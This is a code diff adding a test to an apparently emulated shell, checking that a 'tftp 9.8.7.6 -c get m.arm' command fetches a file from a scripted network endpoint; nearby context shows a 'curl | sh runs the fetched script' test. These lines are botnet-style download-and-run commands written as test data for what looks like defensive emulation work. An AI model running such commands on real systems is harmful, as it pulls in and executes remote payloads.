@@ -102,6 +102,16 @@ describe('runShellCommand sh', () => {
     assert.equal(Buffer.from(context.files.get('/tmp/m.arm')!).toString(), 'payload');
   });
 
+  it('tftp-hpa `tftp host -c get file` asks that host, not a name "-c"', () => {
+    const data = Uint8Array.from([0, 3, 0, 1, ...new TextEncoder().encode('payload')]);
+    const network = new ScriptedEndpoint({ incoming: [data] });
+    const context = shellContext(network);
+    runShellCommand('sh', 'cd /tmp; tftp 9.8.7.6 -c get m.arm', context);
+    assert.deepEqual(network.transcript.resolved, []);
+    assert.equal(network.transcript.sent[0]!.address, '9.8.7.6');
+    assert.equal(Buffer.from(context.files.get('/tmp/m.arm')!).toString(), 'payload');
+  });
+
   it('curl | sh runs the fetched script', () => {
     const network = new ScriptedEndpoint({ incoming: [httpAnswer('ping -c 1 7.7.7.7\n')] });
     const context = shellContext(network);
